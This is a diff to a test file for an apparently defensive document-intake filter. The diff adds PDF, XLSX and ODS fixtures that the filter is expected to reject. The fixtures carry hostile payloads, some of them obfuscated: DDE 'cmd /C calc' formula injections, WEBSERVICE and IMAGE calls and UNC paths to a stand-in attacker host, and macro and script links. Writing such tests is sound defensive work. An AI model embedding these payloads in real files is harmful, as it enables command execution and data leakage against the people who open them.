@@ -24,6 +24,8 @@ from tests.intake.files import (
 )
 
 IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+BOOK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
 DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
 
 
@@ -68,6 +70,18 @@ REFUSED = {
             b" Data:text/html,x",
             rb"\134\134evil.example",
         )
+    },
+    **{
+        f"pdf with {name}": (pdf(b"", inner, catalogue=b"/Inner 4 0 R"), "active_content")
+        for name, inner in {
+            "a file of another host": rb"<< /Type /Filespec /F (\\\\evil.example\\x) >>",
+            "a file of another host, by slashes": rb"<< /Type /Filespec /UF (//evil.example/x) >>",
+            "a file of another host, in UTF-16": b"<< /Type /Filespec /UF <FEFF005C005C006500760069006C005C0078> >>",
+            "a file of a drive": rb"<< /Type /Filespec /F (/c/windows/x) >>",
+            "a page of another file": rb"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>",
+            "a stream that lies elsewhere": b"<< /Length 0 /F (x.bin) >> stream\n\nendstream",
+            "a base for its links": b"<< /URI << /Base (file://evil.example/) >> >>",
+        }.items()
     },
     "pdf that opens an address": (
         pdf(catalogue=b"/OpenAction << /S /URI /URI (https://evil.example) >>"),
@@ -159,6 +173,70 @@ REFUSED = {
         xlsx(**{"xl/worksheets/_rels/sheet1.xml.rels": related(IMAGE, "file://evil.example/x", "External")}),
         "active_content",
     ),
+    **{
+        f"spreadsheet with {formula[:30]}": (
+            xlsx(**{"xl/worksheets/sheet1.xml": f"<w><c><f>{formula}</f><v>1</v></c></w>".encode()}),
+            "active_content",
+        )
+        for formula in (
+            'WEBSERVICE("https://evil.example")',
+            '1+_xlfn.WEBSERVI&#67;E ("https://evil.example")',
+            "cmd|'/C calc'!A0",
+            "'cmd'|'/C \"calc'!A0&amp;\"\"",
+            '_xlfn.IMAGE("https://evil.example/x.png")',
+            'RTD("prog","",1)',
+            r"'\\evil.example\[a.xlsx]S'!A1",
+            r'HYPERLINK("\\evil.example\x","a")',
+        )
+    },
+    "spreadsheet with an element within a formula": (
+        xlsx(**{"xl/worksheets/sheet1.xml": b"<w><f>1+<x/>WEBSERVICE(A1)</f></w>"}),
+        "active_content",
+    ),
+    "spreadsheet with a formula in UTF-16": (
+        xlsx(**{"xl/worksheets/sheet1.xml": "<w><f>WEBSERVICE(A1)</f></w>".encode("utf-16")}),
+        "active_content",
+    ),
+    "spreadsheet with a name that computes": (
+        xlsx(**{"xl/workbook.xml": b"<w><definedName name='a'>cmd|' /C calc'!A0</definedName></w>"}),
+        "active_content",
+    ),
+    "spreadsheet with connections": (
+        xlsx(**{"xl/connections.xml": b"<connections><connection id='1'/></connections>"}),
+        "active_content",
+    ),
+    "spreadsheet with connections, by their type": (
+        xlsx(**{"[Content_Types].xml": types(("/a.xml", "application/vnd.ms-excel.connections+xml"))}),
+        "active_content",
+    ),
+    "spreadsheet with a query": (xlsx(**{"customXml/item1.xml": b"<DataMashup>x</DataMashup>"}), "active_content"),
+    "spreadsheet with a link to a host": (
+        xlsx(**{"xl/worksheets/_rels/sheet1.xml.rels": related(HYPERLINK, r"\\evil.example\x", "External")}),
+        "active_content",
+    ),
+    "spreadsheet with a book of another host": (
+        xlsx(**{"xl/externalLinks/_rels/a.xml.rels": related(BOOK, "file://evil.example/x", "External")}),
+        "active_content",
+    ),
+    "spreadsheet with a sheet cut off": (xlsx(**{"xl/worksheets/sheet1.xml": b"<w><c></w>"}), "archive_refused"),
+    **{
+        f"ods with {inner[:40]}": (
+            ods(**{"content.xml": f'<o xmlns:x="a" xmlns:t="b">{inner}</o>'.encode()}),
+            "active_content",
+        )
+        for inner in (
+            '<t:a x:href="macro:///Standard.Module1.Main()">a</t:a>',
+            '<t:a x:href="vnd.sun.star.script:a">a</t:a>',
+            '<t:a x:href="ma&#10;cro:a">a</t:a>',
+            '<t:a x:href="%5C%5Cevil.example%5Cx">a</t:a>',
+            '<t:image x:href="https://evil.example/x.png"/>',
+            '<t:table-source x:href="../other.ods"/>',
+            '<t:table-cell t:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>',
+            '<t:table-cell t:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>',
+            "<t:table-cell t:formula=\"of:=['file://evil.example/x.ods'#$A.A1]\"/>",
+            '<t:database-source-sql t:database-name="a"/>',
+        )
+    },
     "ods with a script": (
         ods(**{"content2.xml": b'<o xmlns:s="x"><s:script s:language="x">MsgBox</s:script></o>'}),
         "active_content",
